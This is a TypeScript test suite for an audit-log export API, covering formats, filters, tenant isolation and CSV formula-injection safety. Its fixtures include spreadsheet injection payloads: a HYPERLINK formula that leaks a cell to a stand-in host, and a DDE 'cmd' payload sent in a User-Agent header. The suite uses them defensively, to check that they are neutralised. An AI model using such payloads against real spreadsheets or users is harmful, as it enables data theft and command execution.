import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import type { Body } from "../harness/answer.ts";
import { logs } from "../harness/audit.ts";
import { attack } from "../harness/battery.ts";
import { expect, refused } from "../harness/expect.ts";
import { createBlock, uniqueName } from "../harness/pipelines.ts";
import { sql } from "../harness/sql.ts";
import { createTenant, type Tenant, type User } from "../harness/tenant.ts";

const TYPES = {
  csv: "text/csv; charset=utf-8; header=present",
  ndjson: "application/x-ndjson",
  ocsf: "application/x-ndjson",
};

const lines = (text: string): Body[] => text.trim().split("\n").map((line) => JSON.parse(line));

/** The rows of an export as NDJSON, without the log's own reads. */
async function exported(user: User, query = ""): Promise<Body[]> {
  const text = expect(await user.get(`/audit/export?format=ndjson&${query}`), 200);
  return text === "" ? [] : lines(text).filter(({ action_type }) => action_type !== "READ");
}

/** The rows of an export as CSV: every cell a string. */
async function exportedCsv(user: User, query = ""): Promise<Record<string, string>[]> {
  const text = expect(await user.get(`/audit/export?format=csv&${query}`), 200);
  return parse(text, { columns: true });
}

/** Fills the log with rows of one entity type, two at each second. */
async function fill(tenant: Tenant, entityType: string, rows: number): Promise<void> {
  await sql`
    insert into public.audit_logs (organization_id, actor_id, actor_type, action_type, entity_type,
      occurred_at)
    select ${tenant.organizationId}, ${tenant.owner.id}, 'user', 'CREATE', ${entityType},
      now() - interval '1 day' + (n / 2) * interval '1 second'
    from generate_series(1, ${rows}::int) n`;
}

Deno.test("export_audit_logs", async (t) => {
  const tenant = await createTenant();
  const { owner } = tenant;
  const member = await tenant.user("member");
  const block = await createBlock(member);
  await createBlock(owner);
  expect(await owner.patch(`/pipelines/blocks/${block.id}`, { description: "Rain" }), 200);

  await t.step("tells what the list tells, oldest first", async () => {
    const listed = (await logs(owner)).filter(({ action_type }) => action_type !== "READ");
    assert.ok(listed.length > 5);
    assert.deepEqual(await exported(owner), listed.toReversed());
  });

  await t.step("as CSV: a column a field, details as JSON", async () => {
    const rows = await exported(owner);
    const cells = (await exportedCsv(owner)).filter(({ action_type }) => action_type !== "READ");
    assert.deepEqual(Object.keys(cells[0] ?? {}).toSorted(), Object.keys(rows[0]).toSorted());
    const asText = (value: unknown) => typeof value === "object" && value ? value : value ?? "";
    assert.deepEqual(
      cells.map((row) => ({ ...row, details: JSON.parse(row.details ?? "") })),
      rows.map((row) =>
        Object.fromEntries(Object.entries(row).map(([name, value]) => [name, asText(value)]))
      ),
    );
  });

  await t.step("is a file with a name and a type, also when nothing is in it", async () => {
    const date = new Date().toISOString().slice(0, 4);
    for (const [format, type] of Object.entries(TYPES)) {
      const answer = await owner.get(`/audit/export?format=${format}&entity_id=${block.id}`);
      expect(answer, 200);
      assert.equal(answer.headers.get("content-type"), type);
      const extension = format === "ocsf" ? "ocsf\\.ndjson" : format;
      assert.match(
        answer.headers.get("content-disposition") ?? "",
        new RegExp(
          `^attachment; filename="audit-${tenant.organizationId}-${date}-..-..\\.${extension}"$`,
        ),
      );
      const nothing = `entity_id=${crypto.randomUUID()}`;
      const empty: string = expect(
        await owner.get(`/audit/export?format=${format}&${nothing}`),
        200,
      );
      assert.equal(
        empty.split("\n").length,
        format === "csv" ? 2 : 1,
        "the header alone, or nothing",
      );
    }
  });

  await t.step("filters, each one", async () => {
    const all = await exported(owner);
    const matches = async (query: string, test: (row: Body) => boolean) => {
      const expected = all.filter(test);
      assert.ok(expected.length > 0 && expected.length < all.length, query);
      assert.deepEqual(await exported(owner, query), expected, query);
    };
    const [, , third] = all;
    const time = encodeURIComponent(third.occurred_at);
    await matches("entity_type=block", (row) => row.entity_type === "block");
    await matches(`entity_id=${block.id}`, (row) => row.entity_id === block.id);
    await matches("action_type=UPDATE", (row) => row.action_type === "UPDATE");
    await matches(`actor_id=${member.id}`, (row) => row.actor_id === member.id);
    const { request_id } = all.find((row) => row.entity_id === block.id);
    await matches(`request_id=${request_id}`, (row) => row.request_id === request_id);
    await matches(`from=${time}`, (row) => row.occurred_at >= third.occurred_at);
    await matches(`to=${time}`, (row) => row.occurred_at < third.occurred_at);
    assert.deepEqual(await exported(owner, `api_key_id=${crypto.randomUUID()}`), []);
    await sql`
      insert into public.audit_logs (organization_id, actor_type, action_type, entity_type, occurred_at)
      values (${tenant.organizationId}, 'system', 'CREATE', 'test', now() + interval '1 day')`;
    assert.deepEqual(await exported(owner), all, "it ends with the moment it starts");
    assert.deepEqual(await exported(owner, "to=2100-01-01"), all, "also where it was to end later");
  });

  await t.step("a member exports their own actions alone", async () => {
    const rows = await exported(member);
    assert.ok(rows.some(({ entity_id }) => entity_id === block.id));
    assert.deepEqual(new Set(rows.map(({ actor_id }) => actor_id)), new Set([member.id]));
    assert.deepEqual(await exported(member, `actor_id=${owner.id}`), []);
    assert.deepEqual(await exported(await tenant.user("admin")), await exported(owner));
  });

  await t.step("another tenant's rows are in nobody's export", async () => {
    const stranger = await tenant.stranger();
    const rows = await exported(stranger);
    assert.ok(rows.length > 0);
    const organizations = new Set(rows.map(({ organization_id }) => organization_id));
    assert.deepEqual(organizations, new Set([stranger.organizationId]));
    assert.deepEqual(await exported(stranger, `entity_id=${block.id}`), []);
  });

  await t.step("meets each of thousands of rows once, whatever times they share", async () => {
    const type = uniqueName("mass").replace(" ", "_");
    await fill(tenant, type, 2_501);
    const rows = await exported(owner, `entity_type=${type}`);
    assert.equal(rows.length, 2_501);
    assert.equal(new Set(rows.map(({ id }) => id)).size, 2_501);
    const order = rows.map(({ occurred_at, id }) => `${Date.parse(occurred_at)} ${id}`);
    assert.deepEqual(order, order.toSorted());
    const cells = await exportedCsv(owner, `entity_type=${type}`);
    assert.deepEqual(cells.map(({ id }) => id), rows.map(({ id }) => id), "one header");
  });

  await t.step("exporting is logged, with filters and format", async () => {
    const entity_id = crypto.randomUUID();
    await exported(member, `entity_id=${entity_id}`);
    const reads = await logs(owner, `action_type=READ&actor_id=${member.id}`);
    const [read] = reads.filter(({ details }) => details.filters?.entity_id === entity_id);
    assert.equal(read.entity_type, "audit_log");
    assert.deepEqual(read.details.filters, { entity_id, format: "ndjson" });
  });

  await t.step("refuses what is no format and no filter", async () => {
    const wrong = async (query: string, path: string) =>
      refused(await owner.get(`/audit/export?${query}`), 422, "validation_failed", [path]);
    await wrong("format=xlsx", "query.format");
    await wrong("format=", "query.format");
    await wrong("", "query.format");
    await wrong("format=csv&action_type=LOOK", "query.action_type");
    await wrong("format=csv&actor_id=me", "query.actor_id");
    await wrong("format=csv&from=yesterday", "query.from");
  });

  await t.step(
    "is refused to",
    (t) =>
      attack(t, {
        tenant,
        method: "GET",
        path: "/audit/export?format=ndjson",
        stranger: "empty",
      }),
  );
});

Deno.test("a CSV export is safe to open in a spreadsheet", async (t) => {
  const tenant = await createTenant();
  const { owner } = tenant;
  const names = [
    '=HYPERLINK("https://example.com/?leak="&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+3",
    "＝1+4",
    "tarte;=1+1;à la crème",
    'quoted ;"=1+5',
    'bar |=1+6| "=1+7',
    'quote " comma, line\nbreak 🌦 ;+1',
  ];
  const stored: string[] = [];
  for (const name of names) stored.push((await createBlock(owner, undefined, { name })).name);
  const agents = [
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@A1",
    "Loom/1.0 (X11;=1+1; x;@A2)",
    "Loom/1.0",
  ];
  for (const agent of agents) {
    await owner.get("/audit/logs?limit=1", { headers: { "user-agent": agent } });
  }
  const text: string = expect(await owner.get("/audit/export?format=csv"), 200);

  for (const delimiter of [",", ";", "\t", "|"]) {
    await t.step(`no cell is a formula where ${JSON.stringify(delimiter)} separates`, () => {
      // As spreadsheets do: a quote inside of a cell is a character.
      const rows: string[][] = parse(text, {
        delimiter,
        relax_quotes: delimiter !== ",",
        quote: delimiter === "," ? '"' : null,
        relax_column_count: true,
      });
      assert.ok(rows.length > names.length);
      for (const cell of rows.flat()) assert.doesNotMatch(cell, /^"*[=+\-@\t\r＝＋－＠]/);
    });
  }
  await t.step("and each is what it was, but for the mark before it", () => {
    const rows: Record<string, string>[] = parse(text, { columns: true });
    const created = rows.filter((row) =>
      row.entity_type === "block" && row.action_type === "CREATE"
    );
    const found = created.map(({ details = "" }) => JSON.parse(details).new.name);
    assert.deepEqual(found, stored);
    const seen = new Set(rows.map(({ user_agent }) => user_agent));
    for (const marked of ["'=cmd|' /C calc'!A0", "'+1", "'-1", "'@A1", "Loom/1.0"]) {
      assert.ok(seen.has(marked), marked);
    }
    assert.ok(seen.has("Loom/1.0 (X11;'=1+1; x;'@A2)"));
  });
});
